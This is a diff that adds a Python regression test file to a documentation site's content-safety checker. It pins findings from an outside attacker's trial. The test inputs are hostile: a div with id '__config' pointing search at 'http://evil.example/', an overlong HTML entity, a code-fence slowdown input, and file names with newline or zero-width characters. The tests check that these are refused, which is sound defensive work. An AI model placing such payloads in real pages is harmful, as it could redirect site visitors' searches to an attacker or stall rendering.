@@ -1,0 +1,81 @@
+"""Issue 26: what the outside attacker's trial (about 420 attacks) still found, each pinned."""
+
+from __future__ import annotations
+
+import time
+
+import yaml
+
+from helpers import FIXTURES, REPO, make_project, run_check
+from practice_hub.safety import markdown_limits
+from practice_hub.safety.files import linked_files
+from practice_hub.safety.rendered import Renderer, judge_page, unescape
+from practice_hub.settings import LenientLoader
+
+RENDERER = Renderer(
+    yaml.load((REPO / "mkdocs.yml").read_text(encoding="utf-8"), Loader=LenientLoader)["markdown_extensions"]
+)
+RESERVED = "choose another id: ids starting with __ are the page's own (its settings and search)"
+
+
+def found(source: str):
+    return judge_page(RENDERER.render(source), source)[1]
+
+
+def test_an_element_cannot_take_the_place_of_materials_settings():
+    # <div id="__config"> came before Material's own: its "base" sent search to another host.
+    source = 'Intro.\n\n<div id="__config">{"base": "http://evil.example/"}</div>\n'
+    assert found(source) == [(3, 'the id "__config" belongs to one of the site\'s own elements', RESERVED)]
+    assert found("x\n\n## Heading {#__search}\n") == [
+        (3, 'the id "__search" belongs to one of the site\'s own elements', RESERVED)
+    ]
+    published, _ = judge_page(RENDERER.render(source), source)
+    assert "__config" not in published
+
+
+def test_a_numeric_reference_too_long_to_read_is_no_traceback():
+    source = "Number &#" + "9" * 5000 + "; here.\n"
+    assert found(source) == []
+    assert unescape("&#" + "9" * 5000 + ";") == "\ufffd"
+
+
+def test_many_code_fences_are_refused_before_rendering():
+    messages = []
+    markdown_limits.check("```\n" * 300, lambda *args: messages.append(args))
+    assert messages == [
+        (
+            101,
+            "the page has more than 100 code fences (lines starting ``` or ~~~)",
+            "split it into several pages: so many code blocks make the Markdown renderer very slow",
+        )
+    ]
+
+    def cost(n):
+        text = "```\n" * n
+        start = time.process_time()
+        markdown_limits.check(text, lambda *args: None)
+        return time.process_time() - start
+
+    assert cost(100_000) < 2.0  # refused in a linear scan, never rendered
+
+
+def test_a_drafts_files_linked_in_raw_html_are_held_back():
+    body = '<a href="files/secret2.txt">s2</a> <img src="files/pic2.svg" alt="p"> <a href="https://x.example/">x</a>'
+    assert linked_files("drafty", body) == {"drafty/files/secret2.txt", "drafty/files/pic2.svg"}
+
+
+def test_file_names_with_line_breaks_or_invisible_characters_are_refused(tmp_path):
+    project = make_project(
+        tmp_path / "p",
+        FIXTURES / "thread" / "docs",
+        files={"tools/zz-new\nline.txt": "x\n", "tools/zero\u200bwidth.txt": "x\n"},
+    )
+    lines = run_check(project).stdout.splitlines()
+    assert (
+        "docs/tools/zero<U+200B>width.txt:1: the file name has the invisible character U+200B, which cannot be "
+        "seen in a list of files (rename the file)"
+    ) in lines
+    assert (
+        "docs/tools/zz-new<U+000A>line.txt:1: the file name has the invisible character U+000A, which cannot be "
+        "seen in a list of files (rename the file)"
+    ) in lines
